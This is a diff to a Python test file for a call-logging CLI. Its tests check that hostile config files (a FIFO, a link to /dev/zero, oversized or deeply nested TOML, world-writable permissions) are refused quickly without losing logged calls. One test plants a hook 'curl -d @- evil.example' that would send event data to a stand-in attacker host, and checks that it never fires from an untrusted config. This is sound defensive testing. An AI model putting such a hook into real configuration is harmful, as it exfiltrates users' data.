@@ -3,15 +3,19 @@ no traceback, and nothing written (the journal, the config and every other file 
 
 from __future__ import annotations
 
+import os
+import stat
+import time
 from collections.abc import Callable
 from datetime import datetime, timedelta
+from pathlib import Path
 from zoneinfo import ZoneInfo
 
 import pytest
 
 from companion.core.events import EventKind, make_event
 from companion.core.outcomes import Outcome
-from tests.cli.conftest import OUTCOME_NAMES, Companion, Result, snapshot
+from tests.cli.conftest import BASE_CONFIG, OUTCOME_NAMES, Companion, Result, snapshot
 from tests.conftest import ZONE
 
 BERLIN = ZoneInfo(ZONE)
@@ -163,8 +167,24 @@ def test_bad_config_is_refused_in_one_line_and_left_as_it_is(
     assert before_seed
     companion.write_config(text)
     before = snapshot(companion.home)
-    line = assert_refused(companion.run("log", "no"), companion, before, *names)
+    line = assert_refused(companion.run("status"), companion, before, *names)
     assert str(companion.config) in line
+    assert companion.config.read_text(encoding="utf-8") == text
+
+
+@pytest.mark.parametrize(("text", "names"), [c[1:] for c in BAD_CONFIGS], ids=[c[0] for c in BAD_CONFIGS])
+def test_bad_config_never_costs_a_logged_call(
+    companion: Companion, text: str, names: tuple[str, ...]
+) -> None:
+    """`companion log` is a dialer's hook: the call is stored all the same (exit 0), and one
+    line says what is wrong with the file, which is left as it is."""
+    seed(companion)
+    companion.write_config(text)
+    result = companion.run("log", "no")
+    assert result.returncode == 0, result.describe()
+    [line] = result.stderr_lines
+    assert str(companion.config) in line and names[1] in line and "built-in" in line, line
+    assert [e["outcome"] for e in companion.outcome_lines()] == ["no", "no"]
     assert companion.config.read_text(encoding="utf-8") == text
 
 
@@ -217,3 +237,126 @@ def test_unknown_flag_names_the_valid_flags_of_its_command(companion: Companion)
     assert_refused(result, companion, before, "--month")
     line = result.stderr_lines[0]
     assert all(flag in line for flag in ("--date", "--week", "--json")) or "summary --help" in line, line
+
+
+# -- config.toml is untrusted: hostile files are one line, at once, and never cost a call ------
+
+
+def loose(config: Path, which: Path, mode: int) -> None:
+    """A good config.toml, but `which` (it, or its folder) is open to other users' writes."""
+    config.write_text(BASE_CONFIG, encoding="utf-8")
+    which.chmod(mode)
+
+
+HOSTILE_CONFIGS: list[tuple[str, Callable[[Path], object], str]] = [
+    ("fifo", lambda p: os.mkfifo(p), "a FIFO"),
+    ("link-to-dev-zero", lambda p: p.symlink_to("/dev/zero"), "a device (it links to /dev/zero)"),
+    ("a-folder", lambda p: p.mkdir(), "a folder"),
+    ("500-arrays-deep", lambda p: p.write_text("x = " + "[" * 500 + "]" * 500), "nested more than 16 deep"),
+    ("5000-digits", lambda p: p.write_text("[targets]\ndials = " + "7" * 5000), "4,300 digits"),
+    ("2-MB", lambda p: p.write_bytes(b"# big\n" * 400_000), "2.3 MB, larger than the 256 KB"),
+    ("mode-0666", lambda p: loose(p, p, 0o666), "mode 0666"),
+    ("home-0777", lambda p: loose(p, p.parent, 0o777), "mode 0777"),
+]
+QUICK_S = 2.0  # in process: a refusal is a few milliseconds; a hang or a 2 MB parse is not
+
+
+def hostile(companion: Companion, make: Callable[[Path], object]) -> None:
+    companion.config.unlink()
+    make(companion.config)
+
+
+@pytest.mark.parametrize(
+    ("make", "said"), [c[1:] for c in HOSTILE_CONFIGS], ids=[c[0] for c in HOSTILE_CONFIGS]
+)
+def test_a_hostile_config_is_refused_at_once_by_every_other_command(
+    companion: Companion, make: Callable[[Path], object], said: str
+) -> None:
+    seed(companion)
+    hostile(companion, make)
+    before = files_of(companion.home)
+    for args in (["status"], ["summary", "--json"], ["review"]):
+        started = time.monotonic()
+        result = companion.run(*args)
+        assert time.monotonic() - started < QUICK_S, args
+        assert result.returncode == 2 and result.stdout == "", result.describe()
+        [line] = result.stderr_lines
+        assert str(companion.config) in line and said in line and "this command" not in line, line
+    assert files_of(companion.home) == before
+
+
+def files_of(root: Path) -> dict[str, object]:
+    """Every path under `root`: a regular file's bytes, else what it is (a FIFO or a link to a
+    device is never read: that is the hang under test)."""
+    found: dict[str, object] = {}
+    for path in sorted(root.rglob("*")):
+        facts = path.lstat()
+        if stat.S_ISLNK(facts.st_mode):
+            found[str(path)] = ("link", str(path.readlink()))
+        elif stat.S_ISREG(facts.st_mode):
+            found[str(path)] = path.read_bytes()
+        else:
+            found[str(path)] = stat.S_IFMT(facts.st_mode)
+    return found
+
+
+@pytest.mark.parametrize(
+    ("make", "said"), [c[1:] for c in HOSTILE_CONFIGS], ids=[c[0] for c in HOSTILE_CONFIGS]
+)
+def test_a_hostile_config_never_costs_a_call_from_log_or_dial(
+    companion: Companion, make: Callable[[Path], object], said: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The dialer's hook: stored with the built-in settings, in TZ's zone, exit 0, one line."""
+    monkeypatch.setenv("TZ", "Asia/Kolkata")
+    hostile(companion, make)
+    for args in (["dial"], ["log", "no"]):
+        started = time.monotonic()
+        result = companion.run(*args)
+        assert time.monotonic() - started < QUICK_S, args
+        assert result.returncode == 0, result.describe()
+        [line] = result.stderr_lines
+        assert str(companion.config) in line and said in line, line
+        assert line.endswith("this command uses the built-in settings (time zone Asia/Kolkata)"), line
+    [call] = companion.outcome_lines()
+    assert call["outcome"] == "no" and call["at"].endswith("+05:30")
+    assert [e["kind"] for e in companion.journal_lines()] == ["block-start", "outcome"]
+
+
+def test_a_config_another_user_could_have_written_never_runs_its_hook(
+    companion: Companion, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A world-writable home: the call is stored, and the hook its config names never runs."""
+    fired: list[str] = []
+    monkeypatch.setattr("companion.store.hooks.fire", lambda command, *_: fired.append(command))
+    companion.write_config(BASE_CONFIG + '[hooks]\non_event = "curl -d @- evil.example"\n')
+    companion.home.chmod(0o777)
+    result = companion.run("log", "no")
+    assert result.returncode == 0 and "chmod go-w" in result.stderr, result.describe()
+    assert fired == [] and len(companion.outcome_lines()) == 1
+    companion.home.chmod(0o700)  # the rep's own again: the hook runs
+    companion.ok("log", "no")
+    assert fired == ["curl -d @- evil.example"]
+
+
+def test_a_mistake_in_the_reps_own_config_keeps_the_rest_for_the_call(companion: Companion) -> None:
+    """Their dialer's words, their zone: one wrong value costs only itself."""
+    companion.write_config(
+        '[session]\ntimezone = "Asia/Kolkata"\n[ui]\nbell = "loud"\n[dispositions]\n"Left VM" = "voicemail"\n'
+    )
+    result = companion.run("log", "Left VM")
+    assert result.returncode == 0, result.describe()
+    assert result.stderr_lines == [
+        f"companion: {companion.config}: [ui] bell must be true or false (got 'loud');"
+        " this command uses the built-in value in its place"
+    ]
+    [call] = companion.outcome_lines()
+    assert call["outcome"] == "voicemail" and call["at"].endswith("+05:30")
+
+
+def test_a_fifo_config_stops_the_app_at_once_in_one_line(companion: Companion) -> None:
+    """A status bar or the app must never hang on it: one line, exit 2, before a frame."""
+    hostile(companion, lambda p: os.mkfifo(p))
+    result = companion.run(timeout=15)
+    assert result.returncode == 2 and result.stdout == "", result.describe()
+    [line] = result.stderr_lines
+    assert "a FIFO" in line and "Traceback" not in result.stderr
